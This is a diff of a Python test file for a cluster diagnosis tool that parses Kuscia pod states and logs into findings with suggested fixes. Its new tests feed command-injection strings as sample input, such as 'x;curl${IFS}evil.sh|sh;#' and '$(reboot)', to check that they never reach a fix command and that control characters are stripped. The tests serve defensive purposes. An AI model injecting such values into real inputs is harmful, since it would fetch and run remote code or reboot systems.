-def test_engines_left_behind() -> None:
+def test_reports_engine_pods_without_lite() -> None:
     engine = PodState("engines", "job-0", "job", "Running", containers=(ContainerState("e", ready=True, running=True),))
-    names = [found.name for found in judge(LITE, Snapshot(engines=(engine,)))]
-    assert names == ["no-pod", "engines-left-behind"]
+    names = [found.id for found in diagnose(LITE, Snapshot(engines=(engine,)))]
+    assert names == ["no-pod", "engine-pods-without-lite"]
 
 
-def test_one_cause_seen_twice_is_said_once() -> None:
-    refused = f"no Kuscia gateway answers at {MASTER_ENDPOINT}: [Errno 111] Connection refused"
+def test_reports_cause_once_when_seen_twice() -> None:
+    report = Report("master-down", "no gateway answers")
     evidence = replace(
-        step(LITE, f"waiting for the master's gateway (20 s): {refused}\n    see: curl\n"),
-        probes=(Probe("the master", MASTER_ENDPOINT, refused),),
+        step(LITE, f"waiting for the master (20 s): [{report.id}] {report.message}\n"),
+        probes=(Probe(MASTER_GATEWAY, MASTER_ENDPOINT, (report,)),),
     )
-    assert only(judge(LITE, evidence)).name == "master-down"
+    assert only(diagnose(LITE, evidence)).id == "master-down"
+    unknown = replace(step(LITE, "waiting for the master (20 s): [unknown-domain] no domain carl\n"), known=False)
+    assert only(diagnose(LITE, unknown)).id == "unknown-domain"
 
 
-def test_description() -> None:
-    lines = diagnosis.describe([Finding("n", "it is broken", "mend it", "there")], "alice", ("events: refused",))
+@pytest.mark.parametrize("name", ["x;curl${IFS}evil.sh|sh;#", "$(reboot)", "a'b"])
+def test_text_of_master_never_reaches_a_command(name: str) -> None:
+    log = f"[Module] domainroute is finished with err=domain [{name}] not found\n"
+    assert name not in only(diagnose(LITE, kuscia(LITE, log))).fix
+
+
+def test_quotes_names_in_commands() -> None:
+    probe = Probe("alice", "https://alice:1080/$(reboot)", (Report("not-a-gateway", "HTTP 502"),))
+    assert "'https://alice:1080/$(reboot)'" in only(diagnose(MASTER, replace(HEALTHY, probes=(probe,)))).fix
+
+
+def test_removes_control_characters() -> None:
+    log = "ping datastore endpoint error: \x1b[31mred\x07 text\n"
+    found = only(diagnose(MASTER, kuscia(MASTER, log)))
+    image = ContainerState("master", waiting="ErrImagePull", message="\x1b]0;title\x07")
+    pod = only(diagnose(MASTER, Snapshot(node=PodState("ns", "p", "master", "Pending", "", (image,)))))
+    for text in (found.cause, found.fix, found.seen, pod.cause):
+        assert text.isprintable()
+
+
+def test_describes_findings() -> None:
+    lines = diagnosis.describe([Finding("the-id", "two\nlines", "fix it", "there")], "alice", ("events: denied",))
     assert lines == [
         "alice: 1 cause found",
-        "1. it is broken",
-        "   cure: mend it",
+        "1. [the-id] two\n   lines",
+        "   fix: fix it",
         "   seen: there",
-        "not looked at: events: refused",
+        "not checked: events: denied",
     ]
     assert diagnosis.describe([], "alice", ()) == ["alice: nothing found"]
